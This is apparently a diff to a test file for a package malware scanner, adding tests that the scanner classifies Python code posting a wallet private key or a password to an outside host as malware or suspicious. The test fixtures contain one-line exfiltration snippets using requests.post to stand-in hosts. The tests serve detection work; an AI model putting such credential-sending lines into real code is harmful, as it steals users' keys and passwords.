@@ -114,7 +114,38 @@ test('what a wallet takes for a private key, whatever it is called, is told to n
     ),
   });
 
-  expect(await inspect('secret-parameter', file)).toMatchObject([{ score: 6, line: 4, hosts: ['t.tools.invalid'] }]);
+  expect(await inspect('secret-parameter', file)).toMatchObject([
+    { class: 'malware', score: 10, line: 4, hosts: ['t.tools.invalid'] },
+  ]);
+});
+
+test('a key that a service answers about is for a person to judge, one that it says nothing to is stolen', async () => {
+  const wallet = (line: string): string =>
+    python(
+      'import requests',
+      'from eth_account import Account',
+      'def load(text):',
+      `    ${line}`,
+      '    return Account.from_key(text)',
+    );
+  const told = "requests.post('https://api.wallets.invalid/v1/keys', json={'k': text})";
+
+  const stolen = await inspect('secret-parameter', wheel({ 'pkg/__init__.py': wallet(told) }));
+  const asked = await inspect('secret-parameter', wheel({ 'pkg/__init__.py': wallet(`print(${told}.json()['id'])`) }));
+
+  expect(stolen).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
+  expect(asked).toMatchObject([{ class: 'suspicious', score: 6 }]);
+});
+
+test('a password told to free hosting that says nothing is stolen; a service there that answers is suspicious', async () => {
+  const client = (line: string): string => python('import requests', 'def log_in(user, password):', `    ${line}`);
+  const told = "requests.post('https://shop.vercel.app/in', json={'u': user, 'p': password})";
+
+  const stolen = await inspect('secret-parameter', wheel({ 'pkg/__init__.py': client(told) }));
+  const asked = await inspect('secret-parameter', wheel({ 'pkg/__init__.py': client(`return ${told}.json()`) }));
+
+  expect(stolen[0]).toMatchObject({ class: 'malware', score: 10 });
+  expect(asked).toMatchObject([{ class: 'suspicious', score: 6 }]);
 });
 
 test('a function that is named for the key it takes hands it to a bare address', async () => {
